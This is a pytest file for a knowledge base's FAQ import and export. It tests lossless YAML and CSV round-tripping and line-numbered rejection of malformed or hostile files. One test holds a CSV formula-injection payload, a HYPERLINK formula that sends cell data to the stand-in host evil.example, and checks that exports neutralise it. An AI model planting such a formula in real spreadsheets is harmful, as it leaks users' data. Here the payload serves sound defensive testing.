"""FAQ files: YAML and CSV round-trip losslessly; a bad file is refused with line numbers and changes nothing."""

from __future__ import annotations

import csv
import io
import itertools
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from kb_support import ScratchKb, content, scratch_kb

from knowledge_base.errors import KbImportError
from knowledge_base.io import CSV_COLUMNS, dump_csv, dump_yaml, parse_csv, parse_yaml, read_file, write_file
from knowledge_base.safe_yaml import MAX_FILE_BYTES
from knowledge_base.service import EntryContent, EntryRecord

FAQ = Path(__file__).resolve().parents[2] / "training_data" / "faq.yml"


def test_the_default_faq_reads_with_line_numbers() -> None:
    records = read_file(FAQ)
    assert len(records) == 81 and len({r.content.slug for r in records}) == 81
    assert records[0].content.slug == "restart-router" and records[0].line == 6
    assert all(r.status == "published" and r.content.language == "en" for r in records)
    lines = FAQ.read_text().splitlines()
    assert all(lines[r.line - 1].strip() == f"- slug: {r.content.slug}" for r in records)


def test_the_default_faq_imports_cleanly(kb: ScratchKb) -> None:
    report = kb.service.import_entries(read_file(FAQ), author="ed")
    assert (report.created, report.published, report.kb_version) == (81, 81, 1)
    again = kb.service.import_entries(read_file(FAQ), author="ed")
    assert (again.unchanged, again.kb_version) == (81, None)  # idempotent: no new versions


# Texts as editors write them: any printable characters, " | " and quotes included, no surrounding white space.
# Control and format characters are refused by the editor (knowledge_base/characters.py).
printable = st.characters(blacklist_categories=("Cs", "Cc", "Cf", "Zl", "Zp"))
text = st.text(alphabet=printable, min_size=1, max_size=40).map(str.strip).filter(bool)
slug = st.from_regex(r"[a-z0-9]{1,8}(-[a-z0-9]{1,8}){0,2}", fullmatch=True)
record = st.builds(
    lambda s, q, a, p, t, lang, status: EntryRecord(EntryContent(s, q, a, tuple(p), tuple(t), lang), status),
    slug, text, text, st.lists(text, max_size=4, unique_by=str.casefold), st.lists(text, max_size=3),
    st.sampled_from(["en", "de", "en-GB"]), st.sampled_from(["published", "draft", "archived"]),
)  # fmt: skip
records = st.lists(record, max_size=6, unique_by=lambda r: r.content.slug)


@given(records)
def test_yaml_round_trips(items: list[EntryRecord]) -> None:
    assert parse_yaml(dump_yaml(items)) == items


@given(records)
def test_csv_round_trips(items: list[EntryRecord]) -> None:
    assert parse_csv(dump_csv(items)) == items


FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_start_with_a_quote() -> None:
    hostile = EntryRecord(EntryContent(
        slug="fees", question='=HYPERLINK("http://evil.example/?x="&A1,"fees")', answer="+1 for the fees",
        paraphrases=("-2+3",), tags=("@SUM(A1)",), language="en",
    ), "published")  # fmt: skip
    rows = list(csv.reader(io.StringIO(dump_csv([hostile]), newline="")))
    assert rows[1][:4] == ["fees", '\'=HYPERLINK("http://evil.example/?x="&A1,"fees")', '["-2+3"]', "'+1 for the fees"]
    assert all(not cell.startswith(tuple(FORMULA_STARTS)) for row in rows for cell in row)
    assert parse_csv(dump_csv([hostile])) == [hostile]


@pytest.mark.parametrize("start", [*FORMULA_STARTS, "'", "'=", "''-", "'\t"])
def test_csv_round_trips_texts_that_start_like_formulas_or_with_quotes(start: str) -> None:
    item = EntryRecord(EntryContent(
        slug="s", question=f"{start}question", answer=f"{start}answer", paraphrases=(f"{start}p",),
        tags=(f"{start}t",), language="en",
    ), "draft")  # fmt: skip
    exported = dump_csv([item])
    cells = next(itertools.islice(csv.reader(io.StringIO(exported, newline="")), 1, None))
    assert all(not cell.startswith(tuple(FORMULA_STARTS)) for cell in cells)
    assert parse_csv(exported) == [item]


def test_a_hand_made_csv_loses_a_quote_only_before_a_formula_character() -> None:
    body = "slug,question,paraphrases,answer,tags,language,status\ns,'tis the season?,[],'=1 is kept,[],en,\n"
    [item] = parse_csv(body)
    assert (item.content.question, item.content.answer) == ("'tis the season?", "=1 is kept")


@given(records, st.lists(st.sampled_from([*FORMULA_STARTS, "'"]), min_size=1, max_size=3).map("".join))
def test_csv_round_trips_whatever_the_texts_start_with(items: list[EntryRecord], start: str) -> None:
    prefixed = [
        EntryRecord(replace(c, question=start + c.question, answer=start + c.answer,
                            paraphrases=tuple(start + p for p in c.paraphrases)), r.status)  # fmt: skip
        for r in items
        for c in [r.content]
    ]
    assert parse_csv(dump_csv(prefixed)) == prefixed


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(items=records, kind=st.sampled_from(["yml", "csv"]))
def test_import_then_export_gives_the_same_file(tmp_path_factory: pytest.TempPathFactory, items: list[EntryRecord],
                                                kind: str) -> None:  # fmt: skip
    items = [r for r in items if r.content.question.casefold() not in {p.casefold() for p in r.content.paraphrases}]
    directory = tmp_path_factory.mktemp("round-trip")
    with scratch_kb(directory, duplicate_threshold=1.01) as kb:
        source = directory / f"faq.{kind}"
        write_file(source, items)
        kb.service.import_entries(read_file(source), author="ed")
        exported = directory / f"export.{kind}"
        write_file(exported, kb.service.export_entries())
        assert exported.read_bytes() == source.read_bytes()


def write(tmp_path: Path, name: str, body: str) -> Path:
    path = tmp_path / name
    path.write_text(body, encoding="utf-8")
    return path


def problems_of(path: Path) -> list[str]:
    with pytest.raises(KbImportError) as caught:
        read_file(path)
    return caught.value.problems


def test_broken_yaml_syntax_names_the_line(tmp_path: Path) -> None:
    path = write(tmp_path, "faq.yml", "version: 1\nentries:\n  - slug: a\n    question: [unclosed\n    answer: x\n")
    [problem] = problems_of(path)
    assert problem.startswith("line 5: not valid YAML")


def test_yaml_entry_problems_name_their_lines(tmp_path: Path) -> None:
    body = """version: 1
entries:
  - slug: fine
    question: Q?
    answer: A.
  - slug: no-answer
    question: Q?
  - slug: typo
    question: Q?
    answer: A.
    paraphrase: [x]
  - slug: wrong-type
    question: 2024
    answer: yes
  - slug: twice
    question: Q?
    question: Q again?
    answer: A.
  - just a string
"""
    assert problems_of(write(tmp_path, "faq.yml", body)) == [
        "line 6: the entry has no `answer`",
        "line 11: unknown field `paraphrase` (fields: slug, question, paraphrases, answer, tags, language, status)",
        "line 13: `question` must be text, not a number (quote it)",
        "line 14: `answer` must be text, not yes/no (quote it)",
        "line 17: `question` appears twice in this entry",
        "line 19: an entry must be a mapping of slug, question, answer, …",
    ]


def test_yaml_without_version_or_entries(tmp_path: Path) -> None:
    assert problems_of(write(tmp_path, "faq.yml", "version: 2\nentries: {}\n")) == [
        "line 1: `version` must be 1",
        "line 2: `entries` must be a list of entries",
    ]
    assert problems_of(write(tmp_path, "faq.yml", "- a list\n")) == [
        "line 1: expected `version: 1` and a list of `entries:`"
    ]


def test_csv_problems_count_lines_across_multi_line_cells(tmp_path: Path) -> None:
    body = (
        "slug,question,paraphrases,answer,tags,language,status\n"
        'fine,Q?,[],"A multi-\nline\nanswer.",[],en,published\n'  # lines 2-4
        "short,Q?\n"  # line 5
        'bad-json,Q?,"reboot | restart",A.,[],en,published\n'  # line 6
        "no-answer,Q?,[],,[],en,published\n"  # line 7
    )
    assert problems_of(write(tmp_path, "faq.csv", body)) == [
        "line 5: 2 columns, expected 7",
        'line 6: `paraphrases` must be a JSON list of texts, like ["first", "second"]',
        "line 7: `answer` is empty",
    ]


def test_csv_with_a_wrong_header(tmp_path: Path) -> None:
    assert problems_of(write(tmp_path, "faq.csv", "slug,question,answer\nx,y,z\n"))[0].startswith(
        "line 1: the header must be slug,question,paraphrases"
    )


def test_unknown_extension(tmp_path: Path) -> None:
    assert "must end in .yml, .yaml or .csv" in problems_of(write(tmp_path, "faq.txt", ""))[0]


def test_not_utf8(tmp_path: Path) -> None:
    path = tmp_path / "faq.yml"
    path.write_bytes(b"version: 1\nentries:\n  - slug: caf\xe9\n")
    assert problems_of(path) == ["line 3: not UTF-8 text"]


def test_content_problems_name_lines_and_nothing_is_imported(kb: ScratchKb, tmp_path: Path) -> None:
    kb.service.create_draft(content("existing"), author="ed")
    kb.service.publish("existing", author="ed")
    before = kb.counts()
    body = f"""version: 1
entries:
  - slug: good-one
    question: Where is my parcel?
    answer: Track it in the app.
  - slug: too-long
    question: Why is my bill so high?
    answer: "{"x" * 300}"
  - slug: copy-of-existing
    question: "{content("existing").question}"
    answer: Same again.
  - slug: good-one
    question: Where else?
    answer: Nowhere.
"""
    records = read_file(write(tmp_path, "faq.yml", body))
    with pytest.raises(KbImportError) as caught:
        kb.service.import_entries(records, author="ed", source="faq.yml")
    problems = caught.value.problems
    assert any(p.startswith("line 6: the answer with the signature") for p in problems)
    assert "line 12: the slug 'good-one' appears twice (first at line 3)" in problems
    assert kb.counts() == before
    fixed = [r for r in records if r.line in (3, 9)]
    with pytest.raises(KbImportError, match=r"line 9: the question duplicates the published entry 'existing'"):
        kb.service.import_entries(fixed, author="ed", source="faq.yml")
    assert kb.counts() == before
    assert str(caught.value).startswith("faq.yml: ")


def test_duplicates_within_the_file_are_caught(kb: ScratchKb) -> None:
    one = EntryRecord(content("one-entry", question="How do I pay my bill?"), line=3)
    two = EntryRecord(content("two-entry", question="How do I pay my bill?"), line=9)
    with pytest.raises(KbImportError, match="line 3: the question duplicates the published entry 'two-entry'"):
        kb.service.import_entries([one, two], author="ed")
    assert kb.counts()["entries"] == 0


def test_import_sets_statuses(kb: ScratchKb) -> None:
    kb.service.import_entries([EntryRecord(content("a-entry"))], author="ed")
    report = kb.service.import_entries([EntryRecord(content("a-entry"), "archived")], author="ed")
    assert report.unpublished == 1 and kb.service.get("a-entry").status == "archived"
    changed = content("a-entry", answer="Changed.")
    report = kb.service.import_entries([EntryRecord(changed)], author="ed")
    assert report.published == 1 and kb.service.get("a-entry").published_version == 2
    assert kb.service.published([kb.service.get("a-entry").id])[1].content.answer == "Changed."
    report = kb.service.import_entries([EntryRecord(content("b-entry", question="Where is it?"), "draft")], author="ed")
    assert report.created == 1 and report.kb_version is None and kb.service.get("b-entry").status == "draft"


def test_a_failing_embedder_leaves_nothing_half_imported(kb: ScratchKb, monkeypatch: pytest.MonkeyPatch) -> None:
    calls = {"n": 0}
    real = kb.embedder.embed

    def flaky(texts: list[str]) -> object:
        calls["n"] += 1
        if calls["n"] > 1:
            raise RuntimeError("model crashed")
        return real(texts)

    monkeypatch.setattr(kb.embedder, "embed", flaky)
    many = [EntryRecord(content(f"entry-{n}", question=f"question {n} {'x' * 300}"[:80])) for n in range(300)]
    with pytest.raises(RuntimeError):
        kb.service.import_entries(many, author="ed")
    assert kb.counts()["entries"] == 0


# ---------------------------------------------------------------- hostile files


def test_a_file_over_the_size_limit_is_refused_unparsed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    entry = "  - {slug: s, question: Q?, answer: A.}\n"
    body = "version: 1\nentries:\n" + entry * (MAX_FILE_BYTES // len(entry) + 1)
    path = write(tmp_path, "faq.yml", body)
    monkeypatch.setattr("knowledge_base.io.compose_and_load", lambda text: pytest.fail("parsed anyway"))
    [problem] = problems_of(path)
    assert "larger than 2 MB" in problem and "import it in parts" in problem
    csv_path = write(tmp_path, "faq.csv", ",".join(CSV_COLUMNS) + "\n" + "x" * MAX_FILE_BYTES)
    assert "larger than 2 MB" in problems_of(csv_path)[0]


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        ("version: 1\nentries: " + "[" * 20_000 + "]" * 20_000, "line 2: not valid YAML"),
        ("version: 1\nentries: " + "[" * 30 + "]" * 30, "line 2: nested more than 20 levels deep"),
        ("version: 1\nentries:\n" + "".join("  " * n + "-\n" for n in range(1, 40)), "nested more than 20 levels"),
        ("version: 1\nb: &b {slug: s, question: Q?, answer: A.}\nentries: [*b, *b]\n", "line 2: anchors and aliases"),
        ("version: 1\nentries:\n  - slug: s\n    question: 2024-13-45\n", "not valid YAML (month must be in 1..12)"),
    ],
)
def test_hostile_yaml_is_one_clear_problem(tmp_path: Path, body: str, problem: str) -> None:
    [found] = problems_of(write(tmp_path, "faq.yml", body))
    assert problem in found


def test_a_json_cell_nested_thousands_deep_is_a_bad_cell(tmp_path: Path) -> None:
    deep = '"' + "[" * 20_000 + "]" * 20_000 + '"'
    body = f"slug,question,paraphrases,answer,tags,language,status\ns,Q?,{deep},A.,[],en,\n"
    assert problems_of(write(tmp_path, "faq.csv", body)) == [
        'line 2: `paraphrases` must be a JSON list of texts, like ["first", "second"]'
    ]


def test_a_file_that_cannot_be_read_is_a_problem_too(tmp_path: Path) -> None:
    (tmp_path / "folder.yml").mkdir()
    assert problems_of(tmp_path / "folder.yml")[0].startswith("cannot read it (")
    assert problems_of(tmp_path / "missing.csv") == ["cannot read it (No such file or directory)"]
